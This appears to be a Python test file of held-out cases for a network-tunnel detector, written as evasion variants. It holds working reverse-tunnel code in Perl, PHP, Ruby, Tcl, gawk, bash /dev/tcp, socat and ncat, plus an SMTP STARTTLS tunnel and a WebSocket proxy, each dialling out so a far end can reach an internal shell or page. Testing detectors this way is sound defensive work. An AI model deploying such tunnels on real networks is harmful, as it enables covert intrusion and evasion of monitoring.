# SPDX-License-Identifier: Apache-2.0
"""Held out: tunnels in other languages and other clothes than the cases that the detectors were written beside."""

import asyncio
import base64
import contextlib
import json
import threading

import lib_far as far
import lib_held as held
import lib_net as net
from lib_case import case

PERL = """\
use strict; use IO::Socket::INET; use IO::Select;
$SIG{CHLD} = "IGNORE";
sub dial { IO::Socket::INET->new(PeerAddr => $_[0], PeerPort => $_[1], Proto => "tcp") or exit 1 }
my $control = dial("%(far)s", 7000);
while (<$control>) {
	next if fork;
	my ($outer, $inner) = (dial("%(far)s", 7000), dial("%(inner)s", 80));
	syswrite $outer, "work\\n";
	my $both = IO::Select->new($outer, $inner);
	while (1) {
		for my $s ($both->can_read) {
			sysread($s, my $data, 16384) or exit;
			syswrite $s == $outer ? $inner : $outer, $data;
		}
	}
}
"""


@case("tunnel", seconds=8)
def perl_frp(c):
    """perl, as frp does it: one connection is told when to dial another, which carries one visitor"""
    c.file("build.pl", PERL % {"far": c.far, "inner": far.INNER})
    accept = held.listener(c, 7000)
    held.start(c, "perl build.pl")
    control = accept()

    def visit():
        control.sendall(b"go\n")
        s = accept()
        net.read_until(s, b"work\n")
        return s

    held.browse(c, visit)


@case("tunnel", seconds=8)
def c_tls(c):
    """a relay in C with OpenSSL, to the shell of an inner machine"""
    address, port = held.inner_shell(c)
    held.compiled(c, "relay.c", "worker", "-lssl", "-lcrypto")
    accept = held.listener(c, 8883)
    held.start(c, "./worker %s 8883 %s %d" % (c.far, address, port))
    held.log_in(c, accept(net.tls()))


@case("tunnel", seconds=9)
def ncat_broker(c):
    """ncat --broker in the middle: one leg to the far end, one to an inner machine, none of them joined by a program of its own"""
    address, port = held.inner_shell(c)
    c.tool("ncat")
    accept = held.listener(c, 9443)
    held.start(c, "./worker -l --broker 127.0.0.1 9000 & until ./worker -z 127.0.0.1 9000; do sleep 0.1; done; ./worker %s 9443 -c './worker 127.0.0.1 9000' & sleep 0.5; ./worker %s %d -c './worker 127.0.0.1 9000'"
               % (c.far, address, port))
    s = accept()
    while not net.readable(s, 0.5):  # who joins late has missed what was said before
        s.sendall(b"\n")
    held.log_in(c, s)


PHP = """\
<?php
while (true) {
	$asked = @file_get_contents("http://%(far)s/poll", false, stream_context_create(["http" => ["timeout" => 30]]));
	if ($asked === false) { usleep(200000); continue; }
	if ($asked === "") continue;
	$inner = fsockopen("%(inner)s", 80);
	fwrite($inner, $asked);
	$answer = stream_get_contents($inner);
	fclose($inner);
	file_get_contents("http://%(far)s/answer", false, stream_context_create(["http" => ["method" => "POST", "content" => $answer]]));
}
"""


@case("tunnel", seconds=9)
def php_longpoll(c):
    """php: a GET that is held until the far end wants a page, and a POST that brings it"""
    held.need("php")
    c.file("build.php", PHP % {"far": c.far, "inner": far.INNER})
    polled = held.Polled(c, 80)
    held.start(c, "php build.php")
    for _ in range(6):
        answer = polled.get()
        c.mark()
        c.prove(held.PAGE in answer, "the far end read a page of the internal network")
        threading.Event().wait(0.6)


SMTP = """\
import select, socket, ssl

outer = socket.create_connection(("%(far)s", 587))
words = outer.makefile("rwb")
words.readline()
words.write(b"EHLO build\\r\\n"), words.flush()
while words.readline()[3:4] == b"-":
    pass
words.write(b"STARTTLS\\r\\n"), words.flush()
words.readline()
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
outer = context.wrap_socket(outer)
inner = socket.create_connection(("%(inner)s", %(port)d))
while True:
    ready = [outer] if outer.pending() else select.select([outer, inner], [], [])[0]
    for s in ready:
        data = s.recv(16384)
        if not data:
            raise SystemExit
        (inner if s is outer else outer).sendall(data)
"""


@case("tunnel", seconds=9)
def smtp_starttls(c):
    """what begins as a mail client's STARTTLS on the port of submission, and goes on as a tunnel"""
    address, port = held.inner_shell(c)
    c.file("build.py", SMTP % {"far": c.far, "inner": address, "port": port})
    accept = held.listener(c, 587)
    held.start(c, "python3 build.py")
    s = accept()
    s.sendall(b"220 mx.example.org ESMTP\r\n")
    net.read_until(s, b"EHLO build\r\n")
    s.sendall(b"250-mx.example.org\r\n250-SIZE 35882577\r\n250-STARTTLS\r\n250 8BITMIME\r\n")
    net.read_until(s, b"STARTTLS\r\n")
    s.sendall(b"220 ready\r\n")
    s.settimeout(20)
    s = net.tls().wrap_socket(s, server_side=True)
    c.ends.callback(s.close)
    held.log_in(c, s)


WEBSOCKETS = """\
import asyncio, base64, json, websockets


async def visit(w, asked):
    reader, writer = await asyncio.open_connection("%(inner)s", 80)
    writer.write(base64.b64decode(asked["data"]))
    while data := await reader.read(3000):
        await w.send(json.dumps({"id": asked["id"], "data": base64.b64encode(data).decode()}))
    await w.send(json.dumps({"id": asked["id"], "end": True}))
    writer.close()


async def main():
    async with websockets.connect("ws://%(far)s:8081/api/stream") as w:
        visits = set()
        async for message in w:
            visits.add(asyncio.create_task(visit(w, json.loads(message))))


asyncio.run(main())
"""


class Stream(threading.Thread):
    """A WebSocket server of the far end that compresses, as the module's does; get() through whoever came."""

    def __init__(self, c, port):
        super().__init__(daemon=True)
        self.address, self.port, self.who, self.said, self.number = c.far, port, None, {}, 0
        self.ready = threading.Event()

    def run(self):
        with net.at("far"):
            asyncio.run(self.main())

    async def main(self):
        import websockets

        self.loop = asyncio.get_running_loop()
        async with websockets.serve(self.handle, self.address, self.port):
            self.ready.set()
            await asyncio.Future()

    async def handle(self, w):
        import websockets

        self.who = w
        with contextlib.suppress(websockets.ConnectionClosed):
            async for message in w:
                part = json.loads(message)
                data, over = self.said[part["id"]]
                data.extend(base64.b64decode(part.get("data", "")))
                if part.get("end"):
                    over.set()

    def get(self, path="/"):
        self.number += 1
        data, over = self.said[self.number] = bytearray(), threading.Event()
        asked = b"GET %s HTTP/1.1\r\nHost: 10.20.0.11\r\nConnection: close\r\n\r\n" % path.encode()
        message = json.dumps({"id": self.number, "data": base64.b64encode(asked).decode()})
        asyncio.run_coroutine_threadsafe(self.who.send(message), self.loop).result(20)
        over.wait(20)
        return bytes(data)


@case("tunnel", seconds=9)
def websocket_json(c):
    """JSON and base64 in WebSocket messages that are compressed, by an everyday module"""
    held.need_module("websockets")
    c.file("build.py", WEBSOCKETS % {"far": c.far, "inner": far.INNER})
    stream = Stream(c, 8081)
    stream.start()
    stream.ready.wait(10)
    held.start(c, "/usr/bin/python3 build.py")
    c.wait_for(lambda: stream.who, 20, "the connection from inside")
    for _ in range(6):
        c.mark()
        c.prove(held.PAGE in stream.get(), "the far end read a page of the internal network")
        threading.Event().wait(0.6)


@case("tunnel", seconds=8)
def socat_tls(c):
    """socat over and over: TLS to the far end, joined to an inner server, a connection a page"""
    c.tool("socat")
    accept = held.listener(c, 443)
    held.start(c, "(while [ ! -e done ]; do ./worker OPENSSL:%s:443,verify=0 TCP:%s:80; done >/dev/null 2>&1)" % (c.far, far.INNER))
    held.browse(c, lambda: accept(net.tls()))


RUBY = """\
require "socket"
threads = 3.times.map do
  Thread.new do
    loop do
      s = TCPSocket.new("%(far)s", 1081)
      s.read(s.read(2).bytes[1])
      s.write("\\x05\\x00")
      s.read(4)
      host, port = s.read(4).bytes.join("."), s.read(2).unpack1("n")
      inner = TCPSocket.new(host, port)
      s.write("\\x05\\x00\\x00\\x01" + "\\x00" * 6)
      begin
        loop do
          IO.select([s, inner])[0].each { |a| (a == s ? inner : s).write(a.readpartial(16384)) }
        end
      rescue EOFError, SystemCallError
        [s, inner].each(&:close)
      end
    end
  end
end
threads.each(&:join)
"""


@case("tunnel", seconds=9)
def ruby_revsocks(c):
    """ruby: three connections that wait, each a SOCKS server to whoever sits at the far end"""
    held.need("ruby")
    c.file("build.rb", RUBY % {"far": c.far, "inner": far.INNER})
    accept = held.listener(c, 1081)
    held.start(c, "ruby build.rb")
    held.browse(c, lambda: held.socks(accept(), far.INNER, 80))


TCL = """\
proc over {args} { exit }
set outer [socket %(far)s 8443]
set inner [socket %(inner)s %(port)d]
foreach s [list $outer $inner] { fconfigure $s -translation binary -buffering none -blocking 0 }
fcopy $outer $inner -command over
fcopy $inner $outer -command over
vwait forever
"""


@case("tunnel", seconds=8)
def tcl_fcopy(c):
    """tclsh: two fcopy between a connection out and one in"""
    held.need("tclsh")
    address, port = held.inner_shell(c)
    c.file("build.tcl", TCL % {"far": c.far, "inner": address, "port": port})
    accept = held.listener(c, 8443)
    held.start(c, "tclsh build.tcl")
    held.log_in(c, accept())


@case("tunnel", seconds=8)
def bash_cats(c):
    """nothing but bash and cat: two descriptors of /dev/tcp, a cat each way"""
    address, port = held.inner_shell(c)
    accept = held.listener(c, 9418)
    held.start(c, "exec 3<>/dev/tcp/%s/9418 4<>/dev/tcp/%s/%d; cat <&3 >&4 & cat <&4 >&3" % (c.far, address, port))
    held.log_in(c, accept())


GAWK = """\
BEGIN {
	outer = "/inet/tcp/0/%(far)s/8088"; inner = "/inet/tcp/0/%(inner)s/80"
	while ((outer |& getline path) > 0) {
		printf "GET " path " HTTP/1.0\\r\\nHost: 10.20.0.11\\r\\n\\r\\n" |& inner
		fflush(inner)
		while ((inner |& getline line) > 0)
			print line |& outer
		close(inner)
		print "over" |& outer
		fflush(outer)
	}
}
"""


@case("tunnel", seconds=8)
def gawk_pages(c):
    """gawk: the far end says a path, gets the inner page's lines"""
    held.need("gawk")
    c.file("build.awk", GAWK % {"far": c.far, "inner": far.INNER})
    accept = held.listener(c, 8088)
    held.start(c, "gawk -f build.awk")
    s = accept()
    for _ in range(6):
        c.mark()
        s.sendall(b"/\n")
        c.prove(held.PAGE in net.read_until(s, b"over\n"), "the far end read a page of the internal network")
        threading.Event().wait(0.6)
